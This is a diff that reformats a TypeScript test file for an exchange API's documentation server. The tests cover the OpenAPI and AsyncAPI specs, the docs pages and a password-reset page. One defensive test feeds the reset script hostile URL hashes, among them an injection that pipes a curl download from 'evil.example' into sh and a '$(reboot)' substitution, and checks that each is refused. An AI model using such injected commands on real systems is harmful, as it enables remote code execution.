@@ -18,7 +18,10 @@ const textOf = async (path: string) => {
   return { text: await response.text(), headers: response.headers, status: response.status }
 }
 
-const servers = { "an exchange with users": true, "an exchange whose host has users of its own": false }
+const servers = {
+  "an exchange with users": true,
+  "an exchange whose host has users of its own": false
+}
 
 describe.each(Object.entries(servers))("/openapi.json of %s", (_, users) => {
   it("is OpenAPI 3.1 with every route, each schema that is named is there, and every object of a request is closed", async () => {
@@ -38,10 +41,13 @@ describe.each(Object.entries(servers))("/openapi.json of %s", (_, users) => {
       for (const operation of Object.values(item)) {
         ids.push(operation.operationId)
         expect(operation.summary).toBeTruthy()
-        const inPath = (operation.parameters ?? []).filter((parameter: any) => parameter.in === "path")
+        const inPath = (operation.parameters ?? []).filter(
+          (parameter: any) => parameter.in === "path"
+        )
         expect(inPath.map(({ name }: any) => `{${name}}`)).toEqual(path.match(/\{\w+\}/g) ?? [])
         expect(Object.keys(operation.responses).length).toBeGreaterThan(0)
-        for (const response of Object.values<any>(operation.responses)) expect(response.description).toBeTruthy()
+        for (const response of Object.values<any>(operation.responses))
+          expect(response.description).toBeTruthy()
       }
     }
     expect(new Set(ids).size).toBe(ids.length)
@@ -53,11 +59,15 @@ describe.each(Object.entries(servers))("/openapi.json of %s", (_, users) => {
     }
     walk(document)
     for (const reference of references) {
-      expect(document.components.schemas).toHaveProperty([reference.replace("#/components/schemas/", "")])
+      expect(document.components.schemas).toHaveProperty([
+        reference.replace("#/components/schemas/", "")
+      ])
     }
     const payloads = routes.flatMap(({ method, path }) => {
       const { requestBody } = document.paths[path.replace(/:(\w+)/g, "{$1}")][method.toLowerCase()]
-      return requestBody === undefined ? [] : [requestBody.content["application/json"].schema.$ref.split("/").at(-1)]
+      return requestBody === undefined
+        ? []
+        : [requestBody.content["application/json"].schema.$ref.split("/").at(-1)]
     })
     expect(payloads).toContain("PlaceOrder")
     const closed = (schema: any): boolean =>
@@ -66,9 +76,14 @@ describe.each(Object.entries(servers))("/openapi.json of %s", (_, users) => {
         : "anyOf" in schema
           ? schema.anyOf.every(closed)
           : schema.additionalProperties === false
-    for (const name of payloads) expect([name, closed(document.components.schemas[name])]).toEqual([name, true])
+    for (const name of payloads)
+      expect([name, closed(document.components.schemas[name])]).toEqual([name, true])
     expect(document.components.securitySchemes).toEqual({
-      bearer: { type: "http", scheme: "bearer", description: "An access token, from `POST /v1/sessions`." }
+      bearer: {
+        type: "http",
+        scheme: "bearer",
+        description: "An access token, from `POST /v1/sessions`."
+      }
     })
     // Private routes say so, public ones do not.
     expect(document.paths["/v1/balances"].get.security).toEqual([{ bearer: [] }])
@@ -89,7 +104,8 @@ it("/asyncapi.json has every channel and command of the stream, and each schema 
   expect(document.asyncapi).toBe("3.0.0")
   expect(document.channels.stream.address).toBe("/v1/stream")
   const { ask, follow } = document.operations
-  const names = (operation: any) => operation.messages.map(({ $ref }: any) => $ref.split("/").at(-1))
+  const names = (operation: any) =>
+    operation.messages.map(({ $ref }: any) => $ref.split("/").at(-1))
   expect(names(ask)).toEqual([
     "Authenticate",
     "SubscribeDepth",
@@ -114,7 +130,10 @@ describe("the pages", () => {
     expect(text).toContain("createApiReference")
     expect(text).toContain("/v1/orders")
     const outside = /<(?:script|link|img|iframe|source)\b[^>]*\b(?:src|href)=["']?(?:https?:)?\/\//i
-    const markup = text.replace(/<script\b[^>]*>[\s\S]*?<\/script>/gi, (script) => /<script[^>]*>/.exec(script)![0])
+    const markup = text.replace(
+      /<script\b[^>]*>[\s\S]*?<\/script>/gi,
+      (script) => /<script[^>]*>/.exec(script)![0]
+    )
     expect(markup).not.toMatch(outside)
     // And if its script tried to, the browser would not let it.
     const policy = headers.get("content-security-policy")!
@@ -125,7 +144,9 @@ describe("the pages", () => {
   it("/docs/errors has every code where its problem links to, with what to do", async () => {
     const { text } = await textOf("/docs/errors")
     for (const [code, { retry, status }] of problems) {
-      expect(text).toContain(`<tr id="${code}"><td><code>${code}</code><td>${status}<td>${retry}<td>`)
+      expect(text).toContain(
+        `<tr id="${code}"><td><code>${code}</code><td>${status}<td>${retry}<td>`
+      )
     }
   })
 
@@ -140,29 +161,56 @@ describe("the pages", () => {
     const document = { querySelector: (name: string) => (name === "pre" ? shown : undefined) }
     const location = { hash: "#k1.a_token-of.mine", origin: server.url }
     runInNewContext(/<script>([\s\S]*)<\/script>/.exec(text)![1]!, { document, location })
-    const [, body, url] = /^curl -H 'Content-Type: application\/json' -d '(.*)' (\S+)$/.exec(shown.textContent)!
+    const [, body, url] = /^curl -H 'Content-Type: application\/json' -d '(.*)' (\S+)$/.exec(
+      shown.textContent
+    )!
     expect(url).toBe(server.url + path)
     const { token, ...others } = JSON.parse(body!)
     expect(token).toBe("k1.a_token-of.mine")
     // The route knows all of its fields, and the token is not one of ours.
-    const answer = await fetch(url!, { method: "POST", headers: { "content-type": "application/json" }, body: body! })
-    expect([answer.status, ((await answer.json()) as { readonly code: string }).code]).toEqual([422, "LinkRefused"])
+    const answer = await fetch(url!, {
+      method: "POST",
+      headers: { "content-type": "application/json" },
+      body: body!
+    })
+    expect([answer.status, ((await answer.json()) as { readonly code: string }).code]).toEqual([
+      422,
+      "LinkRefused"
+    ])
     expect(Object.keys(others).every((name) => ["password", "name"].includes(name))).toBe(true)
   })
 
   it("error: a link that is no link of ours becomes no command", async () => {
     const { text } = await textOf("/reset")
     const script = /<script>([\s\S]*)<\/script>/.exec(text)![1]!
-    for (const hash of ["", "#x", "#x';{curl,-s,//evil.example}|sh;'", "#a.b.c.d", "#a.b.$(reboot)"]) {
+    for (const hash of [
+      "",
+      "#x",
+      "#x';{curl,-s,//evil.example}|sh;'",
+      "#a.b.c.d",
+      "#a.b.$(reboot)"
+    ]) {
       const shown = { textContent: "" }
-      runInNewContext(script, { document: { querySelector: () => shown }, location: { hash, origin: "https://x" } })
-      expect([hash, shown.textContent]).toEqual([hash, "This link is not whole: open it again from the mail."])
+      runInNewContext(script, {
+        document: { querySelector: () => shown },
+        location: { hash, origin: "https://x" }
+      })
+      expect([hash, shown.textContent]).toEqual([
+        hash,
+        "This link is not whole: open it again from the mail."
+      ])
     }
   })
 
   it("/ leads to all of them", async () => {
     const { text } = await textOf("/")
-    for (const path of ["/docs", "/docs/errors", "/openapi.json", "/asyncapi.json", "/health/ready"]) {
+    for (const path of [
+      "/docs",
+      "/docs/errors",
+      "/openapi.json",
+      "/asyncapi.json",
+      "/health/ready"
+    ]) {
       expect(text).toContain(`href="${path}"`)
       expect((await textOf(path)).status).toBe(200)
     }
